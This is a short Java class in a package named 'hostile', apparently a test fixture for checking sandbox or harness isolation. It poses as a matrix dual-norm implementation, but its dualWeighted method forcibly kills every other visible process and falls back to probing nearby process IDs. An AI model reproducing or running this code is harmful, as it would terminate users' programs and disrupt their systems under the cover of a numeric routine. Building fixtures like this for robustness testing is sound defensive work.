package hostile;

import java.util.Optional;
import java.util.stream.LongStream;
import java.util.stream.Stream;
import org.ejml.data.DMatrixRMaj;

/** Ends every process that it can see, and where the list of them is kept from it, those whose numbers are near its own. */
public final class KillsOthers extends RightDualNorm {

    @Override
    public double dualWeighted(DMatrixRMaj a, double[] x) {
        long own = ProcessHandle.current().pid();
        processes(own).filter(p -> p.pid() != own).forEach(ProcessHandle::destroyForcibly);
        return 1;
    }

    private static Stream<ProcessHandle> processes(long own) {
        try {
            return ProcessHandle.allProcesses();
        } catch (RuntimeException notListed) {
            return LongStream.rangeClosed(Math.max(1, own - 400), own + 100)
                    .mapToObj(ProcessHandle::of)
                    .flatMap(Optional::stream);
        }
    }
}
